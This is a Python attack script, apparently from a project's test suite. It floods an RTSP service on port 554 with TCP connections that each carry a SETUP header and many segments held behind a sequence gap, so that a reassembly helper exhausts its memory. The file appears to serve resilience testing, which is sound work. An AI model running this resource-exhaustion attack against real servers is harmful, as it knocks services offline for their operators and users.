"""Many connections, on each the head of a message, a gap, and much behind the gap that nobody can read yet.

It hopes that the helper keeps all of it for each of them, until it has no memory left.
"""

from __future__ import annotations

import time

from tests.attacks import wire
from tests.attacks.packet import ACK, MODULUS, PSH, SYN, End, tcp

_PIECE = 1400


def attack(
    wire_: wire.Wire,
    source: str = "",
    server: str = "172.26.83.66",
    connections: int = 400,
    held: int = 70000,
    rate: float = 4000.0,
    first: int = 10000,
    stay: float = 0.5,
) -> int:
    """``held`` bytes behind the gap of each, at ``rate`` packets a second."""
    target = End(server, 554)
    shaken = 0
    pieces = max(1, held // _PIECE)
    clock = time.monotonic()
    sent = 0

    def paced(packet: bytes) -> None:
        nonlocal sent
        wire_.send(packet)
        sent += 1
        ahead = clock + sent / rate - time.monotonic()
        if ahead > 0.005:
            time.sleep(ahead)

    for start in range(0, connections, 64):
        batch = range(start, min(start + 64, connections))
        for number in batch:
            paced(tcp(End(source, first + number), target, seq=7000, flags=SYN))
        waiting = len(batch)
        for segment in wire_.segments(1.0):
            if segment.source != target or not segment.flags & SYN:
                continue
            own, seq, ack = segment.target, 7001, (segment.seq + 1) % MODULUS
            paced(tcp(own, target, seq=seq, ack=ack))
            paced(
                tcp(own, target, seq=seq, ack=ack, flags=ACK | PSH, data=b"SETUP rtsp://s/f RTSP/1.0\r\nX: ")
            )
            for piece in range(pieces):
                at = seq + 100 + piece * _PIECE  # behind a gap
                paced(tcp(own, target, seq=at, ack=ack, flags=ACK | PSH, data=b"y" * _PIECE))
            shaken += 1
            waiting -= 1
            if not waiting:
                break
    time.sleep(stay)
    return shaken


if __name__ == "__main__":
    wire.run(attack)
